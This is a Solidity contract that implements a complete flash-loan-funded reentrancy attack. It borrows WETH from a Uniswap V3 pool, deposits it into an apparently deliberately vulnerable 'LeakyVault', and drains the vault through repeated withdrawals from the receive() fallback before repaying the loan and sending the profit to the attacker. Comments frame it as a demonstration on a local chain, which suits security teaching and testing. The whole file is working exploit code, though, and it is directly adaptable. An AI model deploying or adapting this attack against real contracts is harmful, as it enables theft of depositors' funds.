// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {IUniswapV3FlashCallback, IUniswapV3Pool} from "../interfaces/IUniswapV3.sol";
import {IWETH} from "../interfaces/IWETH.sol";
import {LeakyVault} from "../protocol/LeakyVault.sol";

/// @title Reentrancy
/// @notice ATTACK, for the example market on a local chain. Borrows ether for one transaction, deposits it in the
/// vault, and withdraws it again and again from within the first withdrawal.
contract Reentrancy is IUniswapV3FlashCallback {
    using SafeERC20 for IERC20;

    address private immutable _attacker;
    IUniswapV3Pool private immutable _lender;
    IWETH private immutable _weth;
    LeakyVault private immutable _vault;
    /// @dev Wei that one withdrawal takes; 0 while no attack runs, so that plain payments are accepted.
    uint256 private _stake;

    error NotAttacker();
    error UnexpectedCaller();

    constructor(IUniswapV3Pool lender, IWETH weth, LeakyVault vault) {
        _attacker = msg.sender;
        _lender = lender;
        _weth = weth;
        _vault = vault;
    }

    /// @notice Each payment of the vault is answered with another withdrawal, until less than a stake is left.
    receive() external payable {
        if (msg.sender == address(_vault) && address(_vault).balance >= _stake) _vault.withdraw(_stake);
    }

    /// @notice Runs the attack with `amount` wei borrowed.
    function run(uint256 amount) external {
        if (msg.sender != _attacker) revert NotAttacker();
        bool wethIs0 = _lender.token0() == address(_weth);
        _lender.flash(address(this), wethIs0 ? amount : 0, wethIs0 ? 0 : amount, abi.encode(amount));
        IERC20(address(_weth)).safeTransfer(_attacker, _weth.balanceOf(address(this)));
    }

    /// @inheritdoc IUniswapV3FlashCallback
    function uniswapV3FlashCallback(uint256 fee0, uint256 fee1, bytes calldata data) external {
        if (msg.sender != address(_lender)) revert UnexpectedCaller();
        uint256 amount = abi.decode(data, (uint256));
        _weth.withdraw(amount);
        _stake = amount;
        _vault.deposit{value: amount}();
        _vault.withdraw(amount);
        _weth.deposit{value: address(this).balance}();
        IERC20(address(_weth)).safeTransfer(msg.sender, amount + fee0 + fee1);
    }
}
